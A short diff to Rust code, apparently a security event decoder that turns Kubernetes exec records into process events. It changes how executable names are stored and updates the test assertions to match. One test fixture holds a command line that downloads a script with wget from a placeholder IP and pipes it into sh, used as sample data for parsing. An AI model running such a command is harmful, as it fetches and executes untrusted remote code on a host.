@@ -578,7 +578,7 @@ fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
         }),
         pid: None,
         ppid: None,
-        exe,
+        exe: pullwatch_model::name(&exe),
         cmdline: argv.join(" "),
         parent_exe: None,
         // The Kubernetes user who ran the command: the process user is not known.
@@ -809,7 +809,7 @@ mod tests {
         let EventKind::Process(p) = a.kind else {
             panic!()
         };
-        assert_eq!(p.exe, "/bin/sh");
+        assert_eq!(&*p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c wget -qO- http://198.51.100.4/s|sh");
         assert_eq!(p.user.as_deref(), Some("alice"));
         let Placement::Container(c) = p.placement else {
@@ -1182,7 +1182,7 @@ mod tests {
         let EventKind::Process(x) = &e.kind else {
             panic!()
         };
-        assert_eq!((x.exe.as_str(), x.cmdline.as_str()), ("bash", "bash"));
+        assert_eq!((&*x.exe, x.cmdline.as_str()), ("bash", "bash"));
         assert_eq!(x.user.as_deref(), Some("minikube-user"));
         let Placement::Container(c) = &x.placement else {
             panic!()
